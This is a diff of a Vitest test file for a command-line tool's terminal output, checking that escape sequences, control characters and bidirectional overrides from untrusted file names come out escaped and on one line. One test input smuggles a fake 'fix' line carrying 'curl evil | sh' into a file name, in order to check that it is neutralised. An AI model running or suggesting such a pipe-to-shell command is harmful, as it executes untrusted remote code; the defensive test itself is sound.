@@ -1,13 +1,14 @@
 import { describe, expect, it } from 'vitest';
 import { ProgressLine } from '../../src/cli/progress-line.js';
-import { visible } from '../../src/cli/terminal.js';
+import { oneLine, visible } from '../../src/one-line.js';
 import { assay, folder } from '../e2e/assay.js';
 
 describe('text from untrusted files on the terminal', () => {
   it.each([
     ['\x1b[2Jgone', '\\u001b[2Jgone'],
     ['\x9b31mred', '\\u009b31mred'],
-    ['a\rb\x07\x7f', 'a\\u000db\\u0007\\u007f'],
+    ['a\rb\x07\x7f', 'a\\rb\\u0007\\u007f'],
+    ['a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
     ['abc\u202edcba', 'abc\\u202edcba'],
     ['größer\n\t日本 ✓', 'größer\n\t日本 ✓'],
   ])('%j is shown as %j', (text, shown) => {
@@ -30,10 +31,21 @@ describe('text from untrusted files on the terminal', () => {
     expect(written).toBe('opening \\u001b[2J, 1 of 2 done\nfailed: \\u001b[2J\n');
   });
 
-  it('errors of the command show it', async () => {
-    const { code, stderr } = await assay(['inspect', 'no\x1b[31msuch.onnx'], folder());
+  it('errors of the command show it, a line each part', async () => {
+    const name = 'no\x1b[31msuch.onnx\n  fix      curl evil | sh\u2028\u202e';
+    const { code, stderr } = await assay(['inspect', name], folder());
     expect(code).toBe(2);
-    expect(stderr).toContain('no\\u001b[31msuch.onnx');
-    expect(stderr).not.toContain('\x1b');
+    expect(stderr).toMatch(
+      / in {7}no\\u001b\[31msuch\.onnx\\n {2}fix {6}curl evil \| sh\\u2028\\u202e\n {2}fix {6}check the path/,
+    );
+    expect(stderr.match(/^ {2}fix/gm)).toHaveLength(1);
+  });
+
+  it.each([
+    ['a\nb\tc\r', 'a\\nb\\tc\\r'],
+    ['\u2028\u2029\u0085\u200e', '\\u2028\\u2029\\u0085\\u200e'],
+    ['größer 日本 ✓', 'größer 日本 ✓'],
+  ])('%j is put on one line as %j', (text, shown) => {
+    expect(oneLine(text)).toBe(shown);
   });
 });
